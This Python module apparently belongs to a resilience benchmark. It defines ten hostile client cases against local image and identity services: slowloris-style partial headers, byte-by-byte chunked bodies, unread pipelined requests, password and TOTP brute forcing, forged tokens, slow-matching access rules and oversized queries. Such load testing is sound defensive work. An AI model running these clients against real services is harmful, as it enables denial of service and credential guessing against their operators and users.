"""Hostile clients for `bench.attack`: each holds or sends one kind of bad load until its time is over.

    python -m bench.attackers CASE IMAGE IDENTITY TOKEN SECONDS

IMAGE and IDENTITY are host:port; TOKEN is a member's, for the cases that need one. Runs as a process of its own, at
the lowest priority, so that what it computes is not taken for what the server costs.
"""

import asyncio
import contextlib
import itertools
import json
import os
import resource
import socket
import sys
import urllib.request
from collections.abc import Awaitable, Callable
from typing import Any

Address = tuple[str, int]

_SOURCES = itertools.cycle(f"127.0.0.{number}" for number in range(2, 10))
"""Where the connections come from in turn: eight addresses, none of them the other tenant's."""


class Target:
    """Both services as an attacker sees them."""

    def __init__(self, image: Address, identity: Address, token: str) -> None:
        self.image = image
        self.identity = identity
        self.token = token

    def call(self, address: Address, method: str, path: str, document: Any = None) -> Any:
        """An ordinary request of the member's, for what a case has to prepare."""
        request = urllib.request.Request(
            f"http://{address[0]}:{address[1]}{path}",
            json.dumps(document).encode() if document is not None else None,
            {"X-Auth-Token": self.token, "Content-Type": "application/json"},
            method=method,
        )
        with urllib.request.urlopen(request) as response:
            body = response.read()
        return json.loads(body) if body else None

    def new_image(self, **fields: Any) -> str:
        """The id of a new image of the member's."""
        form = {"name": "attack", "disk_format": "raw", "container_format": "bare"}
        return str(self.call(self.image, "POST", "/v2/images", {**form, **fields})["id"])


def head(method: str, path: str, *fields: str) -> bytes:
    """A request's head, its last empty line included."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: attack", *fields, "", ""]).encode()


def request(method: str, path: str, document: Any = None, *fields: str) -> bytes:
    """A whole request."""
    body = json.dumps(document).encode() if document is not None else b""
    return head(method, path, "Content-Type: application/json", f"Content-Length: {len(body)}", *fields) + body


async def hold(address: Address, first: bytes, drip: bytes = b"", every: float = 1.0, *, read: bool = True) -> None:
    """Open a connection, send `first`, then `drip` again and again; connect anew whenever the server ends it."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(*address, local_addr=(next(_SOURCES), 0))
            try:
                writer.write(first)
                while not (read and reader.at_eof()):
                    await asyncio.sleep(every)
                    writer.write(drip)
                    if read:
                        await writer.drain()
                        with contextlib.suppress(TimeoutError):
                            await asyncio.wait_for(reader.read(65536), 0.01)
            finally:
                writer.close()
        await asyncio.sleep(0.2)


async def repeat(address: Address, requests: Callable[[], bytes]) -> None:
    """Send one request after the other, each when the one before is answered; connect anew when the server closes."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ValueError):
            reader, writer = await asyncio.open_connection(*address, limit=2**24, local_addr=(next(_SOURCES), 0))
            try:
                while True:
                    writer.write(requests())
                    answer = await reader.readuntil(b"\r\n\r\n")
                    sizes = [line for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length:")]
                    await reader.readexactly(int(sizes[0].split(b":")[1]) if sizes else 0)
            finally:
                writer.close()
        await asyncio.sleep(0.05)


def ready() -> None:
    """Tell whoever started us that all is prepared and the load begins."""
    print("ready", flush=True)


def never_read(address: Address) -> None:
    """Pipeline requests until the connection takes no more, and keep it open without reading an answer."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.bind((next(_SOURCES), 0))
    sock.connect(address)
    sock.settimeout(1)
    _KEPT.append(sock)
    with contextlib.suppress(OSError):
        for _ in range(200):
            sock.sendall(head("GET", "/v3") * 100)


_KEPT: list[socket.socket] = []


async def slow_readers(target: Target) -> None:
    """Eight strangers pipeline requests and read nothing."""
    ready()
    await asyncio.gather(*(asyncio.to_thread(never_read, target.identity) for _ in range(8)))
    await asyncio.sleep(3600)


async def drip_bodies(target: Target) -> None:
    """130 strangers send a chunked log-in byte by byte."""
    begin = head("POST", "/v3/auth/tokens", "Content-Type: application/json", "Transfer-Encoding: chunked")
    ready()
    await asyncio.gather(*(hold(target.identity, begin, b"1\r\n \r\n", 2.0) for _ in range(130)))


async def drip_uploads(target: Target) -> None:
    """One member uploads 64 images, a byte every other second."""
    fields = (f"X-Auth-Token: {target.token}", "Content-Type: application/octet-stream", "Transfer-Encoding: chunked")
    heads = [head("PUT", f"/v2/images/{target.new_image()}/file", *fields) for _ in range(64)]
    ready()
    await asyncio.gather(*(hold(target.image, each, b"1\r\nx\r\n", 2.0) for each in heads))


async def half_heads(target: Target) -> None:
    """1,100 strangers send half a head and wait."""
    half = b"GET /v2/images HTTP/1.1\r\nHost: attack\r\nX-"
    ready()
    await asyncio.gather(*(hold(target.image, half, b"a", 5.0) for _ in range(1100)))


def _log_in(method: str, secret: dict[str, Any]) -> bytes:
    user = {"name": "admin", "domain": {"id": "default"}, **secret}
    return request("POST", "/v3/auth/tokens", {"auth": {"identity": {"methods": [method], method: {"user": user}}}})


async def wrong_passwords(target: Target) -> None:
    """50 strangers guess a password without a pause."""
    guess = itertools.count()
    ready()
    await asyncio.gather(
        *(repeat(target.identity, lambda: _log_in("password", {"password": f"{next(guess)}"})) for _ in range(50))
    )


async def guessed_codes(target: Target) -> None:
    """16 strangers guess a TOTP code without a pause."""
    guess = itertools.count()
    ready()
    await asyncio.gather(
        *(repeat(target.identity, lambda: _log_in("totp", {"passcode": f"{next(guess):06}"})) for _ in range(16))
    )


async def forged_tokens(target: Target) -> None:
    """16 strangers show tokens that nobody issued."""
    forged = request("GET", "/v2/images", None, "X-Auth-Token: eyJhbGciOiJFUzI1NiJ9." + "e30" * 40 + "." + "A" * 86)
    ready()
    await asyncio.gather(*(repeat(target.image, lambda: forged) for _ in range(16)))


async def access_rules(target: Target) -> None:
    """A member's access rule is made to be slow to match."""
    rule = {"service": "image", "method": "GET", "path": "/" + "**a" * 12 + "**b"}
    user_id = json.loads(_whoami(target))["token"]["user"]["id"]
    made = {"name": f"attack-{os.getpid()}", "access_rules": [rule]}
    path = f"/v3/users/{user_id}/application_credentials"
    credential = target.call(target.identity, "POST", path, {"application_credential": made})["application_credential"]
    shown = {"id": credential["id"], "secret": credential["secret"]}
    auth = {"identity": {"methods": ["application_credential"], "application_credential": shown}}
    body = json.dumps({"auth": auth}).encode()
    with urllib.request.urlopen(
        urllib.request.Request(
            f"http://{target.identity[0]}:{target.identity[1]}/v3/auth/tokens",
            body,
            {"Content-Type": "application/json"},
        )
    ) as response:
        token = response.headers["X-Subject-Token"]
    slow = request("GET", "/v2/images/" + "a" * 60, None, f"X-Auth-Token: {token}")
    ready()
    await asyncio.gather(*(repeat(target.image, lambda: slow) for _ in range(4)))


def _whoami(target: Target) -> bytes:
    request = urllib.request.Request(
        f"http://{target.identity[0]}:{target.identity[1]}/v3/auth/tokens",
        headers={"X-Auth-Token": target.token, "X-Subject-Token": target.token},
    )
    with urllib.request.urlopen(request) as response:
        return bytes(response.read())


async def many_filters(target: Target) -> None:
    """A member's lists are filtered by as many values as a head holds."""
    values = ",".join(str(n) for n in range(12_000))
    query = request("GET", f"/v2/images?name=in:{values}", None, f"X-Auth-Token: {target.token}")
    ready()
    await asyncio.gather(*(repeat(target.image, lambda: query) for _ in range(4)))


async def large_properties(target: Target) -> None:
    """A member fills community images with the largest properties that are taken, and lists them all."""
    for _ in range(8):
        with contextlib.suppress(OSError):
            target.new_image(visibility="community", **{f"p{n}": "x" * 60_000 for n in range(128)})
    query = request("GET", "/v2/images?visibility=community", None, f"X-Auth-Token: {target.token}")
    ready()
    await asyncio.gather(*(repeat(target.image, lambda: query) for _ in range(8)))


CASES: dict[str, Callable[[Target], Awaitable[None]]] = {
    case.__name__.replace("_", "-"): case
    for case in (
        slow_readers,
        drip_bodies,
        drip_uploads,
        half_heads,
        wrong_passwords,
        guessed_codes,
        forged_tokens,
        access_rules,
        many_filters,
        large_properties,
    )
}


async def play(case: Callable[[Target], Awaitable[None]], target: Target, seconds: float) -> None:
    """Run a case until its time is over."""
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(case(target), seconds)


def _address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main() -> None:
    """Play the case that the arguments name."""
    name, image, identity, token, seconds = sys.argv[1:]
    os.nice(19)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(play(CASES[name], Target(_address(image), _address(identity), token), float(seconds)))


if __name__ == "__main__":
    main()
